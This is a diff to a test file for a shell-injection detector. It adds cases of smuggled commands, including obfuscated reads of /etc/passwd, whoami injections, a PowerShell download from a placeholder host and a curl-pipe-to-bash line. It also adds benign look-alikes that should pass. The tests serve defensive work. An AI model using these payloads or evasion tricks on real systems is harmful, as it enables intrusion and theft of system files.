@@ -40,6 +40,13 @@ describe('detectShell', () => {
     'curl 192.0.2.1|bash',
     '|for /f "delims=" %i in (\'whoami\') do echo %i',
     ';who$()ami',
+    'a.example;/bin/ca? /et*/passwd',
+    'a.example;c$?at /et$?c/pas$?swd',
+    ';wh``oami',
+    ';export PATH=/tmp:$PATH',
+    ';ip a',
+    '|start calc',
+    ';printf "%s" /etc/*',
   ])('finds a command after a separator in %s', (text) => {
     expect(words(text)).toContain('command-after-separator');
   });
@@ -77,6 +84,16 @@ describe('detectShell', () => {
     'ipconfig /all',
     'ls -laR /etc',
     'reg add "HKLM\\a" /v b',
+    'for /f "tokens=*" %G in (\'dir /b\') DO echo %G',
+    'FOR %a IN (set) DO abc',
+    'if "%var%"=="" goto ERROR',
+    'IF %ERRORLEVEL% EQU 2 goto x',
+    '%COMSPEC% /c dir',
+    'c^m^d /c whoami',
+    'cd /;cd etc;fold passwd',
+    'Invoke-WebRequest http://a.example/b.ps1',
+    'Get-Process | Out-File C:\\a.txt',
+    'type c:\\boot.ini',
   ])('finds a whole command line: %s', (text) => {
     expect(words(text)).toContain('command-line');
   });
@@ -133,6 +150,16 @@ describe('detectShell', () => {
     'S|M|L',
     '$100',
     'who; what',
+    'python -c option book',
+    'type c: drive',
+    'copy a: notes',
+    'for each 5% in (stock)',
+    'if 100% = cotton',
+    'new-item',
+    'invoke-wellness -set',
+    'use `git` or `npm`',
+    'dvd; cd / vinyl',
+    'camera; ip a rated',
   ])('leaves %s alone', (text) => {
     expect(words(text)).toEqual([]);
   });
